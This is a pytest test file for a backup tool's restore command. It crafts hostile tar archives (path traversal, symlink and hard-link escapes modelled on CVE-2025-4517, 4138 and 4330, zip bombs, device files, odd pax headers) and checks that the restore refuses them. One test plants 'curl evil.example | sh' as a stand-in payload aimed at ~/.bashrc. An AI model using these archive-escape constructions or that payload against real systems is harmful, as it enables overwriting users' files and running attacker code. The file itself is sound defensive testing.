"""Hostile archives inside authentic backups (issue 8, item 3).

Each archive is built here with `tarfile` (which writes whatever it is told), sealed as a
real backup under a real root key with the single-blob writer (`seal_backup` in
tests/backup/single_blob.py, byte for byte what older versions wrote), and
restored with the real console script. The restore must refuse it (or, for links that lead
out, skip them), write nothing outside `--to` (a fake ~/.bashrc in a temporary HOME is the
sentinel), leave `--to` untouched, and say what was wrong.
"""

from __future__ import annotations

import hashlib
import io
import os
import subprocess
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
import zstandard
from test_cli_backup import single_blob

from backupvault.backup.archive import ArchiveStats
from backupvault.crypto import recovery

BASHRC = b"# the user's real shell settings\n"
Build = Callable[[tarfile.TarFile], None]


def run(*args: str, home: Path, stdin: str = "") -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "backupvault", *args],
        input=stdin,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env={**os.environ, "HOME": str(home)},
    )


def folder(tar: tarfile.TarFile, name: str, mode: int = 0o755) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.mode = tarfile.DIRTYPE, mode
    tar.addfile(info)


def file(
    tar: tarfile.TarFile, name: str, data: bytes = b"owned\n", size: int | None = None
) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data) if size is None else size
    tar.addfile(info, io.BytesIO(data))


def symlink(tar: tarfile.TarFile, name: str, target: str) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    tar.addfile(info)


def hardlink(tar: tarfile.TarFile, name: str, target: str) -> None:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.LNKTYPE, target
    tar.addfile(info)


def special(tar: tarfile.TarFile, name: str, kind: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    tar.addfile(info)


class World:
    """A temporary HOME with a sentinel, a storage folder, and where restores go."""

    def __init__(self, tmp_path: Path) -> None:
        self.tmp = tmp_path
        self.home = tmp_path / "home"
        self.home.mkdir()
        (self.home / ".bashrc").write_bytes(BASHRC)
        self.storage = tmp_path / "storage"
        self.parent = tmp_path / "restore"
        self.parent.mkdir()
        self.dest = self.parent / "dest"

    def seal(self, build: Build, entries: int = 1000, content_bytes: int = 1 << 20) -> str:
        """A real backup holding the archive `build` writes; returns its recovery code."""
        root_key = recovery.new_root_key()

        def write(out: single_blob.Writable) -> ArchiveStats:
            compressor = zstandard.ZstdCompressor().stream_writer(
                out,  # type: ignore[arg-type]
                closefd=False,
            )
            with tarfile.open(fileobj=compressor, mode="w|", format=tarfile.PAX_FORMAT) as tar:
                build(tar)
            compressor.flush(zstandard.FLUSH_FRAME)
            return ArchiveStats()

        single_blob.seal_backup(
            str(self.storage),
            root_key,
            write,
            key_kind=single_blob.KEY_RECOVERY_CODE,
            bounds=single_blob.SourceTotals(entries, content_bytes),
        )
        return recovery.encode(root_key)

    def outside(self) -> dict[str, str]:
        """Everything outside the storage: names and content hashes (links as targets)."""
        seen: dict[str, str] = {}
        for path in sorted(self.tmp.rglob("*")):
            if self.storage in path.parents or path == self.storage:
                continue
            name = str(path.relative_to(self.tmp))
            if path.is_symlink():
                seen[name] = "-> " + os.readlink(path)
            elif path.is_file():
                seen[name] = hashlib.sha256(path.read_bytes()).hexdigest()
            else:
                seen[name] = "folder"
        return seen

    def restore(self, code: str, *extra: str) -> subprocess.CompletedProcess[str]:
        return run(
            "backup", "restore", "--storage", str(self.storage), "--to", str(self.dest),
            "--recovery-code", "-", *extra, home=self.home, stdin=code + "\n",
        )  # fmt: skip

    def refused(self, build: Build, match: str, **bounds: int) -> None:
        """Restore must exit 1 with `match` in a clear message, changing nothing anywhere;
        the same again into an existing empty --to."""
        code = self.seal(build, **bounds)
        for existing in (False, True):
            if existing:
                self.dest.mkdir()
            before = self.outside()
            done = self.restore(code)
            assert done.returncode == 1, (done.stdout, done.stderr)
            assert "refused to restore" in done.stderr or "no space left" in done.stderr
            assert match in done.stderr, done.stderr
            assert "Traceback" not in done.stderr and "bug" not in done.stderr
            assert self.outside() == before
            assert (self.home / ".bashrc").read_bytes() == BASHRC
            assert sorted(p.name for p in self.parent.iterdir()) == (["dest"] if existing else [])
            if existing:
                assert not any(self.dest.iterdir())
                self.dest.rmdir()


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


def test_a_sealed_handmade_archive_restores(world: World) -> None:
    """The harness itself: an honest handmade archive restores, so refusals below are real."""

    def honest(tar: tarfile.TarFile) -> None:
        folder(tar, ".")
        folder(tar, "docs")
        file(tar, "docs/a.txt", b"hello")
        hardlink(tar, "docs/b.txt", "docs/a.txt")
        symlink(tar, "link", "docs/a.txt")

    done = world.restore(world.seal(honest))
    assert done.returncode == 0, done.stderr
    assert (world.dest / "docs" / "b.txt").read_bytes() == b"hello"
    assert (world.dest / "link").read_bytes() == b"hello"
    assert "2 files" in done.stdout


def test_cve_2025_4517_symlink_chain_past_path_max_then_hard_link(world: World) -> None:
    """The published pattern: nested folders with 247-character names and a one-letter
    symlink to each, so the chain "a/b/.../p" is longer than PATH_MAX once expanded and
    realpath() gives up; a link through the chain leads out, and a hard link through that
    makes ~/.bashrc writable from inside the archive, which then overwrites it."""
    long_name = "d" * 247
    steps = "abcdefghijklmnop"

    def cve_2025_4517(tar: tarfile.TarFile) -> None:
        path = ""
        for step in steps:
            folder(tar, os.path.join(path, long_name))
            symlink(tar, os.path.join(path, step), long_name)
            path = os.path.join(path, long_name)
        chain = "/".join(steps)
        symlink(tar, chain, "../" * len(steps))
        symlink(tar, "escape", chain + "/" + "../" * 4 + "home")
        hardlink(tar, "bashrc", "escape/.bashrc")
        file(tar, "bashrc", b"curl evil.example | sh\n")

    world.refused(cve_2025_4517, "under 'a', which is a symbolic link the archive created")


def test_cve_2025_4138_and_4330_links_out_then_write_or_chmod_through_them(
    world: World,
) -> None:
    # A relative link that climbs out, then a file written through it (4138: create outside).
    world.refused(
        lambda tar: (symlink(tar, "out", "../../home"), file(tar, "out/.bashrc")),
        "under 'out', which is a symbolic link",
    )
    # An absolute link, then a folder member of the same name whose mode would be applied
    # to the target (4330: metadata outside).
    world.refused(
        lambda tar: (
            symlink(tar, "abs", str(world.home / ".bashrc")),
            folder(tar, "abs", 0o777),
        ),
        "holds 'abs' twice",
    )
    # A link inside a folder pointing back up, and a chain through it.
    world.refused(
        lambda tar: (
            folder(tar, "d"),
            symlink(tar, "d/up", ".."),
            symlink(tar, "d/x", "up/../../home"),
            file(tar, "d/x/.bashrc"),
        ),
        "under 'd/x', which is a symbolic link",
    )


def test_hard_link_escapes(world: World) -> None:
    world.refused(lambda tar: hardlink(tar, "h", "../../home/.bashrc"), "climbs out with '..'")
    world.refused(lambda tar: hardlink(tar, "h", str(world.home / ".bashrc")), "an absolute name")
    world.refused(
        lambda tar: (symlink(tar, "s", "../../home"), hardlink(tar, "h", "s/.bashrc")),
        "points to 's/.bashrc', which is not in the archive before it",
    )
    world.refused(
        lambda tar: (symlink(tar, "s", "../../home/.bashrc"), hardlink(tar, "h", "s")),
        "which is a symbolic link (only regular files",
    )
    world.refused(lambda tar: (folder(tar, "f"), hardlink(tar, "h", "f")), "which is a folder")
    # A link to a file that comes later is not "extracted earlier".
    world.refused(
        lambda tar: (hardlink(tar, "h", "later"), file(tar, "later")),
        "not in the archive before it",
    )


def test_duplicate_names(world: World) -> None:
    world.refused(lambda tar: (file(tar, "a", b"1"), file(tar, "a", b"2")), "holds 'a' twice")
    # A hard link to a file, then a write to the link's name (overwrite through the link).
    world.refused(
        lambda tar: (file(tar, "f"), hardlink(tar, "h", "f"), file(tar, "h", b"evil")),
        "holds 'h' twice",
    )
    world.refused(lambda tar: (folder(tar, "d"), folder(tar, "d/")), "holds 'd' twice")
    world.refused(lambda tar: (folder(tar, "."), folder(tar, "./")), "root folder '.' twice")


@pytest.mark.parametrize(
    ("name", "match"),
    [
        ("/etc/evil", "an absolute name"),
        ("../evil", "climbs out with '..'"),
        ("a/../../evil", "climbs out with '..'"),
        ("a//b", "empty or '.' component"),
        ("./a", "empty or '.' component"),
        ("x" * 256, "longer than 255 bytes"),
    ],
)
def test_absolute_and_climbing_names(world: World, name: str, match: str) -> None:
    world.refused(lambda tar: (folder(tar, "a"), file(tar, name)), match)


def test_devices_and_fifos(world: World) -> None:
    world.refused(lambda tar: special(tar, "fifo", tarfile.FIFOTYPE), "'fifo' is a FIFO")
    world.refused(lambda tar: special(tar, "tty", tarfile.CHRTYPE), "is a character device")
    world.refused(lambda tar: special(tar, "sda", tarfile.BLKTYPE), "is a block device")


def test_member_under_a_file_or_a_missing_folder(world: World) -> None:
    world.refused(lambda tar: (file(tar, "f"), file(tar, "f/x")), "under 'f', which is a file")
    world.refused(lambda tar: file(tar, "nowhere/x"), "not a folder the archive created")


def test_declared_sizes_and_counts_are_caps(world: World) -> None:
    # A zip bomb: 64 MiB of zeros compress to a few KiB; the header allows 1 MiB.
    world.refused(
        lambda tar: file(tar, "bomb", bytes(64 << 20)), "declares 67108864 bytes, past the 1048576"
    )
    # Many small files past the header's entry count.
    world.refused(
        lambda tar: [file(tar, f"f{i}", b"x") for i in range(20)],
        "more than the 10 entries",
        entries=10,
    )
    # A header that declares more than the disk holds is refused before anything is written.
    world.refused(lambda tar: file(tar, "a"), "needs 1024.0 TiB", content_bytes=1 << 50)


def test_symlinks_that_lead_out_through_chains_are_skipped(world: World) -> None:
    """Links are never followed while restoring; afterwards, no link in the tree may lead
    out of it, even through a long chain of the archive's own links, or loop."""

    def chains(tar: tarfile.TarFile) -> None:
        folder(tar, ".")
        folder(tar, "d")
        file(tar, "d/target", b"inside")
        for i in range(60):  # l0 -> l1 -> ... -> l59 -> d/target: too many hops
            symlink(tar, f"l{i}", f"l{i + 1}" if i < 59 else "d/target")
        symlink(tar, "short", "l55")  # 5 hops: fine
        symlink(tar, "d/up", "..")  # the root: fine
        symlink(tar, "d/upup", "up/..")  # through d/up: the parent of the root
        symlink(tar, "loop", "loop")
        symlink(tar, "abs", "/etc/passwd")

    done = world.restore(world.seal(chains))
    assert done.returncode == 0, done.stderr
    assert (world.dest / "short").read_bytes() == b"inside"
    assert "skipped d/upup: symbolic link to up/.. is outside the restored" in done.stderr
    assert "skipped abs: symbolic link to /etc/passwd is outside" in done.stderr
    assert "skipped loop: symbolic link to loop goes through over 40 links" in done.stderr
    assert "skipped l0: symbolic link to l1 goes through over 40 links" in done.stderr
    assert "skipped l20:" not in done.stderr  # 39 hops from l20 to d/target
    assert not (world.dest / "d" / "upup").is_symlink()
    root = world.dest.resolve()
    for link in world.dest.rglob("*"):
        if link.is_symlink():
            resolved = link.resolve()
            assert resolved == root or root in resolved.parents, link
    assert (world.home / ".bashrc").read_bytes() == BASHRC


def test_tar_headers_the_writer_never_makes_are_refused(world: World) -> None:
    def huge_pax(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo("f")
        info.pax_headers = {"comment": "x" * (2 << 20)}  # 2 MiB read into memory by tarfile
        tar.addfile(info, io.BytesIO(b""))

    world.refused(huge_pax, "a pax header of 20971")

    def unknown_pax(tar: tarfile.TarFile) -> None:
        info = tarfile.TarInfo("f")
        info.pax_headers = {"GNU.sparse.map": "0,10"}
        tar.addfile(info, io.BytesIO(b""))

    world.refused(unknown_pax, "an unsupported pax record 'GNU.sparse.map'")

    def gnu_long_name(tar: tarfile.TarFile) -> None:
        tar.format = tarfile.GNU_FORMAT
        file(tar, "n" * 150)

    world.refused(gnu_long_name, "'././@LongLink' has a GNU tar header")

    world.refused(lambda tar: special(tar, "pax_global_header", tarfile.XGLTYPE), "type b'g'")
